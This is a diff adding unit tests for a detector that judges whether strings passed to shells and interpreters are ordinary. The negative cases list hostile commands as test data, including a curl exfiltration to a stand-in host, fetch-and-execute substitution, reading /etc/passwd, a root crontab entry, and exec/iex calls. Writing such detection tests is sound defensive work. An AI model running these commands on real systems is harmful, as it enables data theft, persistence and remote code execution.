@@ -12,6 +12,14 @@ import { isIban } from '../../src/detect/checks/iban.js';
 import { isJwt } from '../../src/detect/checks/jwt.js';
 import { passesLuhn } from '../../src/detect/checks/luhn.js';
 import { isNkeySeed } from '../../src/detect/checks/nkey.js';
+import {
+  isOrdinaryForNode,
+  isOrdinaryForPerl,
+  isOrdinaryForPhp,
+  isOrdinaryForPowerShell,
+  isOrdinaryForPython,
+  isOrdinaryForShell,
+} from '../../src/detect/checks/ordinary-command.js';
 import { isPlaceholder, isShownPassword } from '../../src/detect/checks/placeholder.js';
 import { entropyOf } from '../../src/detect/checks/randomness.js';
 import { beginsWithSeedPhrase } from '../../src/detect/checks/seed-phrase.js';
@@ -274,6 +282,42 @@ describe('a match that stands in text', () => {
     const results = fc.sample(fc.tuple(bytes, bytes), { numRuns: 20_000, seed: 1 });
     const passed = results.filter(([before, after]) => standsInText({ before, text: mark, after }));
     expect(passed.length).toBeLessThanOrEqual(1);
+  });
+});
+
+describe('what is handed to a shell or an interpreter', () => {
+  test.each([
+    [isOrdinaryForShell, '"npm run migrate && npm start"'],
+    [isOrdinaryForShell, "'set -e; make -j8'"],
+    [isOrdinaryForShell, '"cd /srv/app && git pull"'],
+    [isOrdinaryForShell, "'until nc -z db 5432; do sleep 1; done'"],
+    [isOrdinaryForShell, '"$CMD"'],
+    [isOrdinaryForShell, '"echo \'vm.max_map_count=262144\' >> /etc/sysctl.conf"'],
+    [isOrdinaryForPython, '"import torch; print(torch.__version__)"'],
+    [isOrdinaryForPython, "'import json,sys; print(json.load(sys.stdin))'"],
+    [isOrdinaryForPerl, "'print 1 + 1'"],
+    [isOrdinaryForPhp, '"echo PHP_VERSION;"'],
+    [isOrdinaryForNode, '"console.log(process.version)"'],
+    [isOrdinaryForPowerShell, '"Get-ChildItem -Recurse"'],
+  ])('%o takes %j for everyday work', (isOrdinary, text) => {
+    expect(isOrdinary(text)).toBe(true);
+  });
+
+  test.each([
+    [isOrdinaryForShell, '"whoami"'],
+    [isOrdinaryForShell, '"echo x > /tmp/a.sh"'],
+    [isOrdinaryForShell, '"npm ci && curl -d @x https://files.invalid"'],
+    [isOrdinaryForShell, '"cat /etc/passwd"'],
+    [isOrdinaryForShell, '"echo \'* * * * * root x\' >> /etc/crontab"'],
+    [isOrdinaryForShell, '"$(curl -s https://files.invalid)"'],
+    [isOrdinaryForPython, '"import base64;print(base64.b64decode(x))"'],
+    [isOrdinaryForPython, '"import os; os.system(x)"'],
+    [isOrdinaryForPerl, "'print `id`'"],
+    [isOrdinaryForPhp, '"echo system($x);"'],
+    [isOrdinaryForNode, '"require(\'child_process\').exec(x)"'],
+    [isOrdinaryForPowerShell, '"Get-Content x | iex"'],
+  ])('%o does not take %j for it', (isOrdinary, text) => {
+    expect(isOrdinary(text)).toBe(false);
   });
 });
 
